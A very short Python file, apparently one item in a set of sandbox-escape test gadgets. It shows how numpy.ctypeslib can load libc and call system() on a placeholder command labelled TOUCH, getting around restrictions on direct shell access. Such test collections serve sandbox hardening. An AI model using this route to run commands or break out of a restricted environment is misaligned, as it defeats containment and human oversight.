# kind: gadgets
# tries: ctypes through numpy.ctypeslib

import numpy as np

np.ctypeslib.ctypes.CDLL(None).system(TOUCH.encode())
